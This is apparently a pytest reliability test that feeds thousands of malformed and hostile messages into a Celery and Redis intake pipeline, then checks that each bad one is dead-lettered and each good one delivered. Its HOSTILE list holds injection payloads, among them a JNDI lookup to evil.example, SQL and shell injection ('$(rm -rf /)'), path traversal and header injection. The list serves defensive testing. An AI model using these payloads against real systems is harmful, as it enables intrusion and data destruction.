"""Scenario 6: thousands of malformed, oversized, wrongly typed and hostile messages among good ones.

Hypothesis generates the bad messages (seeded, so a run can be replayed); every one is checked to
break the contract before it is sent. They go in by both doors, bypassing the producer's own
validation: as Celery intake task arguments (sent with a bare Celery client, as a publisher in
another codebase might) and as raw text on the language-neutral stream. Both doors end in the intake
loop, which reads each message and judges each request in it on its own. Each bad request must
become a dead letter whose id follows from where it came in (``task:<task id>:<index>``, or
``stream:<entry id>:<index>`` for a stream entry that is JSON; ``stream:<entry id>`` for one that
is not) with a reason, each good one must be delivered (bad siblings in its message or not), and no
worker process may die.
"""

from __future__ import annotations

import json
import string
import uuid
from collections.abc import Iterator
from typing import Any

import psutil
import pytest
from celery import Celery
from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st

from producer.contract import parse_request
from producer.errors import InvalidRequestError
from producer.names import INTAKE_QUEUE, INTAKE_TASK, NATIVE_INTAKE_FIELD, NATIVE_INTAKE_STREAM
from tests.reliability.conftest import assert_none_lost, wait_finished
from tests.support.sandbox_fixtures import SandboxClient
from tests.support.stacks import StackFactory, only_connections
from unsub_dev.localstack.processes import ManagedProcess
from worker.pipeline import deadletters
from worker.redis_client import text

pytestmark = [pytest.mark.reliability, pytest.mark.integration, pytest.mark.timeout(300)]

SEED = 20_261_127
BAD_PER_DOOR = 1200
GOOD = 400
MB = 1_000_000

HOSTILE = [
    "'; DROP TABLE contacts; --",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "\x00\x01\x1b[31m",
    "a@b.c\r\nBcc: victim@example.com",
    "{{7*7}}",
    "\u202e\u0000\ufeff",
    "$(rm -rf /)",
    "%0d%0aSet-Cookie:x",
]

valid_email = st.from_regex(r"[a-z]{1,12}\.[a-z0-9]{1,8}@example\.com", fullmatch=True)
bad_email = st.one_of(
    st.text(alphabet=string.ascii_letters + string.digits + " .", min_size=0, max_size=40),  # no @
    st.sampled_from(HOSTILE),
    st.just("x" * MB),
    st.builds(lambda s: f"{s}@", st.text(min_size=1, max_size=10)),
    st.builds(lambda s: f"a\x00{s}@example.com", st.text(max_size=5)),
)
wrong_type = st.one_of(
    st.integers(), st.floats(allow_nan=True), st.booleans(), st.none(), st.lists(st.integers(), max_size=3)
)
json_value = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=20,
)


def nested(depth: int) -> Any:
    value: Any = "core"
    for _ in range(depth):
        value = {"targets": value}
    return value


#: Valid in every field but the address: the dead letter must say ``invalid_email``.
only_email_bad = st.builds(lambda e: {"email": e}, bad_email)
#: A valid address and something else wrong: the dead letter must say ``invalid_message``.
other_field_bad = st.one_of(
    st.builds(lambda e, v: {"email": e, "scope": v}, valid_email, wrong_type | st.sampled_from(HOSTILE)),
    st.builds(lambda e, v: {"email": e, "request_id": v}, valid_email, st.sampled_from(HOSTILE)),
    st.builds(
        lambda e, v: {"email": e, "connections": v}, valid_email, st.sampled_from(HOSTILE) | wrong_type
    ),
    st.builds(lambda e, v: {"email": e, "version": v}, valid_email, st.integers().filter(lambda n: n != 1)),
    st.builds(lambda e: {"email": e, "reason": "r" * MB}, valid_email),
    st.builds(lambda e: {"email": e, "targets": {"insider": nested(60)}}, valid_email),
    st.builds(lambda e, k, v: {"email": e, f"x{k}": v}, valid_email, st.text(max_size=8), json_value),
    st.builds(lambda e, v: {"email": e, "requested_at": v}, valid_email, st.text(max_size=30) | wrong_type),
)
#: Anything else: not an object, no address, wrong types throughout.
shapeless = st.one_of(
    wrong_type,
    st.text(max_size=200),
    st.sampled_from(HOSTILE),
    st.just({}),
    st.dictionaries(st.text(max_size=10), json_value, max_size=4),
    st.builds(lambda v: {"email": v}, wrong_type),
    st.just(nested(400)),
)
bad_message = st.one_of(
    st.tuples(st.just("invalid_email"), only_email_bad),
    st.tuples(st.just("invalid_message"), other_field_bad),
    st.tuples(st.none(), shapeless),
)


def draw_many(strategy: st.SearchStrategy[Any], count: int, salt: int) -> list[Any]:
    """``count`` examples of ``strategy``, reproducibly (seeded), without running a property."""
    drawn: list[Any] = []

    @seed(SEED + salt)
    @settings(
        max_examples=count,
        database=None,
        phases=[Phase.generate],
        deadline=None,
        suppress_health_check=list(HealthCheck),
    )
    @given(strategy)
    def collect(example: Any) -> None:
        drawn.append(example)

    collect()
    return drawn


def breaks_contract(payload: Any) -> bool:
    try:
        parse_request(payload)
    except (InvalidRequestError, TypeError, ValueError):
        return True
    return False


def pool_pids(proc: ManagedProcess) -> set[int]:
    assert proc.pid is not None
    main = psutil.Process(proc.pid)
    return {main.pid, *(c.pid for c in main.children(recursive=True))}


def test_thousands_of_hostile_messages_are_dead_lettered_and_every_good_one_is_delivered(
    rstack: StackFactory, sandbox: SandboxClient
) -> None:
    stack = rstack(config_hook=only_connections("insider"))
    workers = [stack.start_worker(name, concurrency=2) for name in ("w1", "w2")]
    stack.start_scheduler()
    pids_before = {w.name: pool_pids(w) for w in workers}

    bad = [m for m in draw_many(bad_message, 2 * BAD_PER_DOOR, 1) if breaks_contract(m[1])]
    assert len(bad) >= BAD_PER_DOOR, "the strategies must yield thousands of contract-breaking messages"
    emails = {f"good-{i}": f"good{i}@example.com" for i in range(GOOD)}
    good = [{"request_id": rid, "email": e} for rid, e in emails.items()]
    expected: dict[str, str | None] = {}  # dead letter id -> required reason (None: either)

    # Door 1: Celery intake task messages, sent by a bare client, 40 items (and at most about
    # 2 MB: a message may hold 8 MiB) per message.
    celery_bad, native_bad = bad[: len(bad) // 2], bad[len(bad) // 2 :]
    client = Celery("hostile-publisher", broker=stack.redis_url)
    items: list[tuple[str | None, Any]] = [*celery_bad, *((None, g) for g in good[: GOOD // 2])]
    try:
        for chunk in chunks(items, count=40, max_bytes=2 * MB):
            task_id = str(uuid.uuid4())
            client.send_task(INTAKE_TASK, args=[[p for _, p in chunk]], task_id=task_id, queue=INTAKE_QUEUE)
            for index, (reason, payload) in enumerate(chunk):
                if not (isinstance(payload, dict) and payload.get("request_id", "").startswith("good-")):
                    expected[deadletters.message_letter_id(f"task:{task_id}:{index}")] = reason
        # a whole argument that is not even a list of objects
        for reason, payload in celery_bad[:50]:
            task_id = str(uuid.uuid4())
            if isinstance(payload, list):
                continue  # a list argument is a batch: its items were covered above
            client.send_task(INTAKE_TASK, args=[payload], task_id=task_id, queue=INTAKE_QUEUE)
            expected[deadletters.message_letter_id(f"task:{task_id}:0")] = reason
    finally:
        client.close()

    # Door 2: raw JSON (and not JSON at all) on the language-neutral stream, one message per entry.
    # A JSON entry holds one request (letter "stream:<id>:0"); an entry that is not JSON is refused
    # whole (letter "stream:<id>").
    raw_texts: list[tuple[str | None, str, str]] = [
        (r, json.dumps(p), ":0") for r, p in native_bad if not isinstance(p, list)
    ]
    raw_texts += [(None, t, "") for t in draw_many(st.text(max_size=300), 300, 2) if not _is_json(t)]
    raw_texts += [(None, "[" * 100_000 + "]" * 100_000, ":0"), (None, "\xff\xfe garbage", "")]
    raw_texts += [(None, "{" * 50, "")]
    for reason, raw, index in raw_texts:
        entry_id = text(stack.redis.xadd(NATIVE_INTAKE_STREAM, {NATIVE_INTAKE_FIELD: raw}))
        expected[deadletters.message_letter_id(f"stream:{entry_id}{index}")] = reason
    entry_id = text(stack.redis.xadd(NATIVE_INTAKE_STREAM, {"not-the-message-field": "x"}))
    expected[deadletters.message_letter_id(f"stream:{entry_id}")] = "invalid_message"
    for g in good[GOOD // 2 :]:
        stack.redis.xadd(NATIVE_INTAKE_STREAM, {NATIVE_INTAKE_FIELD: json.dumps(g)})
    print(f"bad input: {len(expected)} bad messages, {GOOD} good ones")

    wait_finished(stack, emails, timeout_s=200)

    outcomes = assert_none_lost(stack, sandbox, emails, ["insider"])
    assert outcomes.states == {"delivered": GOOD}
    problems = []
    for letter_id, reason in expected.items():
        letter = deadletters.get(stack.redis, letter_id)
        if letter is None:
            problems.append(f"{letter_id}: no dead letter (required reason {reason})")
        elif not letter.problems or letter.reason not in {"invalid_message", "invalid_email"}:
            problems.append(f"{letter_id}: reason {letter.reason!r}, problems {letter.problems[:2]}")
        elif reason is not None and letter.reason != reason:
            problems.append(
                f"{letter_id}: reason {letter.reason!r}, expected {reason!r}: {letter.problems[:2]}"
            )
    assert not problems, f"{len(problems)} of {len(expected)} bad messages:\n" + "\n".join(problems[:15])
    assert deadletters.count(stack.redis) == len(expected), "nothing else was dead-lettered"

    assert all(w.running for w in workers)
    assert {w.name: pool_pids(w) for w in workers} == pids_before, "no worker process died or was replaced"
    logs = stack.logs()
    for sign in ("WorkerLostError", "exited prematurely", "Restarting", "Traceback"):
        assert sign not in logs, f"{sign!r} in the workers' logs"


def _is_json(text: str) -> bool:
    try:
        json.loads(text)
    except ValueError:
        return False
    return True


def chunks(items: list[tuple[str | None, Any]], *, count: int, max_bytes: int) -> Iterator[list[Any]]:
    """``items`` in runs of at most ``count``, each run's JSON at most about ``max_bytes``."""
    run: list[tuple[str | None, Any]] = []
    size = 0
    for item in items:
        item_size = len(json.dumps(item[1]))
        if run and (len(run) == count or size + item_size > max_bytes):
            yield run
            run, size = [], 0
        run.append(item)
        size += item_size
    if run:
        yield run
